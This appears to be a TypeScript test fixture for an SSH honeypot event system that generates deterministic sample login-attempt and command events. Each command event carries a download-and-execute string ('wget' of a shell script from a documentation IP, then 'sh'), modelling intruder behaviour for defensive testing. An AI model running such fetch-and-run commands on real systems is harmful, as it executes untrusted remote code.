import { createHash } from 'node:crypto';
import { type CerberusEvent, type EventOf, uuidV7, uuidV8 } from '@cerberusmesh/contracts';

/** Events for tests and benchmarks: the same number always gives the same event. */

const START_MS = Date.parse('2026-05-01T10:00:00.000Z');

export function sampleId(number: number): string {
  return uuidV7(START_MS + number, hash(`event ${number}`));
}

export function sampleSessionId(number: number): string {
  return uuidV8(hash(`session ${number}`));
}

/** Event `number`, five to a session; one in three is a login attempt, the others commands. */
export function sampleEvent(number: number, changes: Partial<EventOf<'command.entered'>> = {}): CerberusEvent {
  const session = Math.floor(number / 5);
  const identity = {
    id: sampleId(number),
    at: new Date(START_MS + number).toISOString().replace('Z', '456Z'),
    sensorId: 'sensor-1',
    trap: 'ssh',
    sessionId: sampleSessionId(session),
    source: { address: `192.0.2.${session % 250}`, port: 40_000 + (session % 20_000) },
    destination: { address: '198.51.100.7', port: 22 },
    protocol: 'ssh',
  };
  if (number % 3 === 0 && Object.keys(changes).length === 0) {
    return {
      ...identity,
      kind: 'credential.tried',
      data: { method: 'password', username: 'root', secret: `admin${number}`, accepted: false },
    };
  }
  return {
    ...identity,
    kind: 'command.entered',
    data: { input: `cd /tmp; wget http://192.0.2.1/"${number}".sh; sh ${number}.sh`, channel: 'exec', exitCode: 0 },
    ...changes,
  };
}

export function sampleEvents(count: number, first = 0): CerberusEvent[] {
  return Array.from({ length: count }, (_, index) => sampleEvent(first + index));
}

function hash(text: string): Uint8Array {
  return createHash('sha256').update(text).digest();
}
